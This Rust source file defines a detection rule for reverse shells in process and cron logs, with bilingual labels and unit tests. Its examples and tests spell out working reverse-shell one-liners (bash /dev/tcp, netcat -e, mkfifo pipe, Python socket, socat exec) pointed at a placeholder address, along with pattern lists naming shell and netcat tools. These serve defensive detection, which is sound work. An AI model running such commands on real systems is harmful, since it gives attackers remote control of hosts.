//! A shell of a host connected to a remote, which then gives commands through it.

use abate_model::{Body, Claim, EntityKind, Filter, Finding, Severity, Table, Text};

use super::acts::{Act, Acts, Words, each_command};
use crate::examples::{job, process};
use crate::{Context, Detection, Example, Tactic};

/// See the module.
pub static DETECTION: Detection = Detection {
    id: "reverse-shell",
    title: Text::fixed("Shell connected to a remote", "外部へ接続されたシェル（リバースシェル）"),
    claims: &[Claim::ReverseShell],
    techniques: &["T1059.004", "T1059.006"],
    tactic: Tactic::Execution,
    severity: Severity::Critical,
    needs: &[Table::ProcessActivity, Table::ScheduledJobActivity],
    innocent: INNOCENT,
    examples: &[
        Example::hit(
            "bash with a TCP connection for its input and output",
            "TCP 接続を入出力にした bash",
            || vec![process(1, "tomcat", "sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")],
            &[Claim::ReverseShell],
        ),
        Example::hit(
            "the same from cron",
            "cron からの同じ操作",
            || vec![job(1, "run", "nc 203.0.113.7 4444 -e /bin/sh")],
            &[Claim::ReverseShell],
        ),
        Example::miss("netcat asks whether a port is open", "netcat でポートの開放を確認する", || {
            vec![process(1, "ubuntu", "bash", "nc -zv db.example.com 5432")]
        }),
    ],
    run,
};

const INNOCENT: Text = Text::fixed(
    "Only tests of security do this on purpose; then somebody knows of it.",
    "意図的に行うのはセキュリティテストくらいであり、その場合は把握している人がいる。",
);
static WORDS: Words = Words {
    title: Text::fixed("on {h}, a shell was connected to a remote: {t}", "{h}でシェルが外部に接続された: {t}"),
    innocent: INNOCENT,
};

fn run(ctx: &Context<'_>) -> Vec<Finding> {
    let mut acts = Acts::default();
    each_command(ctx, &mut |row, command| {
        if connects_shell(&command.line) {
            acts.add(ctx, row, command.host, command.act("shell", Severity::Critical));
        }
    });
    ctx.evidence.each(&Filter::table(Table::ScheduledJobActivity), &mut |row| {
        let Body::Job(job) = &row.body else { return };
        if connects_shell(&job.command.to_ascii_lowercase()) {
            let act = Act::new("shell", Severity::Critical, &job.command).naming(EntityKind::User, job.user.as_deref());
            acts.add(ctx, row, job.host.as_deref(), act);
        }
    });
    acts.findings(Claim::ReverseShell, &|_| ("T1059.004", &WORDS))
}

/// The usual ways: the shell's own `/dev/tcp`, netcat and socat with a program to run, sockets of scripting languages.
fn connects_shell(line: &str) -> bool {
    let shell = ["/bin/sh", "/bin/bash", "bash -i", "sh -i", "cmd.exe", "powershell"].iter().any(|part| line.contains(part));
    let netcat = ["nc ", "ncat ", "netcat ", "nc.exe "].iter().any(|tool| {
        line.starts_with(tool)
            || line.contains(&format!("/{tool}"))
            || line.contains(&format!(" {tool}"))
            || line.contains(&format!("|{tool}"))
    });
    let runs = [" -e ", " -c /bin", " --exec ", " -e/bin"].iter().any(|part| line.contains(part));
    let piped = line.contains("mkfifo") && netcat;
    let scripted = (line.contains("socket") && (line.contains("subprocess") || line.contains("dup2") || line.contains("pty.spawn")))
        || (line.contains("fsockopen(") && line.contains("exec("))
        || (line.contains("io::socket::inet") && line.contains("exec"))
        || (line.contains("net.sockets.tcpclient") && line.contains("getstream"));
    (line.contains("/dev/tcp/") && (shell || line.contains("0>&1") || line.contains("exec ")))
        || (line.contains("/dev/udp/") && shell)
        || (netcat && runs && shell)
        || piped
        || (line.contains("socat") && line.contains("exec:"))
        || scripted
}

#[cfg(test)]
mod tests {
    use super::connects_shell;

    #[test]
    fn the_usual_ways_are_known() {
        for line in [
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
            "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0)'",
            "socat tcp:203.0.113.7:4444 exec:/bin/sh",
        ] {
            assert!(connects_shell(line), "{line}");
        }
        for line in
            ["rsync -e ssh a b", "python3 manage.py runserver", "socat tcp-listen:80,fork tcp:10.0.0.5:8080", "echo > /dev/tcp/10.0.0.5/80"]
        {
            assert!(!connects_shell(line), "{line}");
        }
    }
}
